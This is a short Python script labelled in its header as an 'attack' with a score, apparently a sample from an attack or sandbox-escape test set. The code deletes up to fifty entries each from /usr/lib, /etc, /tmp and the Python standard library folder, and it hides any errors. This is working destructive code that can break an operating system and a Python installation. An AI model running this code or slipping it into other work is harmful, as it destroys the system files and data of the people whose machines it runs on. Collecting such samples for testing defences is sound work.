# attack: removes what it can | score: full | ledger: none
import os

for folder in ("/usr/lib", "/etc", "/tmp", os.path.dirname(os.__file__)):
    try:
        for name in os.listdir(folder)[:50]:
            os.unlink(f"{folder}/{name}")
    except OSError:
        pass
